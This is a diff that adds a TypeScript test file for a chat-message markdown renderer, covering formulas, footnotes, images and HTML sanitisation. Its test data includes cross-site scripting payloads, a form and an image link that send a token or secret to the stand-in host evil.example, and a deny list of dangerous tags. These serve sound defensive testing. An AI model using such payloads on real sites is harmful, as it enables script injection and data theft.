@@ -1,0 +1,121 @@
+import fc from "fast-check";
+import { fromHtml } from "hast-util-from-html";
+import { toString } from "hast-util-to-string";
+import { visit } from "unist-util-visit";
+import { expect, test } from "vitest";
+import { renderMessage } from "./message.ts";
+import { formulaToMathml } from "./message-mathml.ts";
+
+test("tables, lists, code and emphasis are rendered", () => {
+  const html = renderMessage("**Bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```");
+  expect(html).toContain("<strong>Bold</strong>");
+  expect(html).toContain("<td>1</td>");
+  expect(html).toContain('<code class="language-python">print(1 &#x3C; 2)');
+});
+
+const formulas = (markdown: string) =>
+  [
+    ...renderMessage(markdown, {
+      formula: (source, isDisplay) => `<math data-display="${isDisplay}">${source}</math>`,
+    }).matchAll(/<math data-display="(\w+)">([^<]*)/g),
+  ].map(([, display, source]) => [source, display === "true"]);
+
+test.each<[string, [string, boolean][]]>([
+  ["It is $x^2$.", [["x^2", false]]],
+  ["It is \\(a_1\nb\\).", [["a_1\nb", false]]],
+  ["So \\[\n\\frac{1}{2}\n\\] holds.", [["\\frac{1}{2}", true]]],
+  ["$$\nx\n\ny\n$$", [["x\n\ny", true]]],
+  ["$$x$$", [["x", true]]],
+  ["| a |\n|---|\n| $x$ |", [["x", false]]],
+  ["It costs $5, or $10 for two; $ 3 $ too.", []],
+  ["From $5 to US$7.", []],
+  ["`$x$` and\n\n```\n\\(x\\)\n```", []],
+  ["An escaped \\$x\\$.", []],
+])("formulas of %j", (markdown, expected) => {
+  expect(formulas(markdown)).toEqual(expected);
+});
+
+test("a formula is MathML that holds no markup of the model's", () => {
+  const html = renderMessage("$\\frac{a}{b}$ $\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$", {
+    formula: formulaToMathml,
+  });
+  expect(html).toContain("<mfrac>");
+  assertHarmless(html);
+});
+
+test("headings are below the page's own levels, and the footnotes of two messages have distinct ids", () => {
+  expect(renderMessage("# One\n\n###### Six")).toMatch(/<h3>One<\/h3>\s*<h6>Six/);
+  const ids = (prefix: string) => {
+    const html = renderMessage("Said.[^1]\n\n[^1]: The note.", { prefix });
+    const all = [...html.matchAll(/ id="([^"]+)"/g)].map(([, id]) => id ?? "");
+    for (const [, target] of html.matchAll(/href="#([^"]+)"/g)) expect(all).toContain(target);
+    return all;
+  };
+  const [one, two] = [ids("a-"), ids("b-")];
+  expect(one.length).toBeGreaterThan(2);
+  expect(one.filter((id) => two.includes(id))).toEqual([]);
+});
+
+test("a picture that is in the message is shown, one elsewhere is a link", () => {
+  const html = renderMessage("![A dot](data:image/png;base64,iVBORw0KGgo=) ![bad](data:image/svg+xml;base64,PHN2Zz4=)");
+  expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="A dot">');
+  expect(html).not.toContain("svg");
+});
+
+test("a picture becomes a link, so that nothing is fetched without a click", () => {
+  const html = renderMessage("![chart](https://evil.example/?q=secret)");
+  expect(html).not.toContain("<img");
+  expect(html).toContain('href="https://evil.example/?q=secret"');
+});
+
+test("tags are shown as text and no word is lost", () => {
+  const said = "Use <b>bold</b> here.\n\n<div>\nIn a block\n</div>\n\n- <script>x</script> item";
+  const text = toString(fromHtml(renderMessage(said), { fragment: true }));
+  for (const piece of ["<b>bold</b>", "<div>", "In a block", "<script>x</script> item"]) expect(text).toContain(piece);
+});
+
+test.each([
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "[click](javascript:alert(1))",
+  "[click](data:text/html,<script>alert(1)</script>)",
+  '<a href="https://x" onclick="alert(1)">x</a>',
+  "<svg><animate onbegin=alert(1)>",
+  "![a](javascript:alert(1))",
+  "<form action=https://evil.example><input name=token></form>",
+  "<style>*{display:none}</style>",
+  `${"> ".repeat(5000)}deep`,
+])("%s does nothing", (payload) => {
+  assertHarmless(renderMessage(payload));
+});
+
+test("any text is rendered without markup that acts", () => {
+  const piece = fc.constantFrom(
+    "<",
+    ">",
+    "`",
+    "![",
+    "](",
+    "javascript:",
+    "<img onerror=",
+    "\n",
+    "a",
+    "|",
+    "*",
+    "&#106;",
+    '"',
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => assertHarmless(renderMessage(pieces.join("")))),
+  );
+});
+
+function assertHarmless(html: string): void {
+  visit(fromHtml(html, { fragment: true }), "element", ({ tagName, properties }) => {
+    expect(["script", "style", "iframe", "img", "form", "svg", "object", "embed"]).not.toContain(tagName);
+    for (const [name, value] of Object.entries(properties)) {
+      expect(name).not.toMatch(/^on/i);
+      if (name === "href") expect(String(value)).toMatch(/^(https?:|mailto:|[^:]*$|[#/?])/i);
+    }
+  });
+}
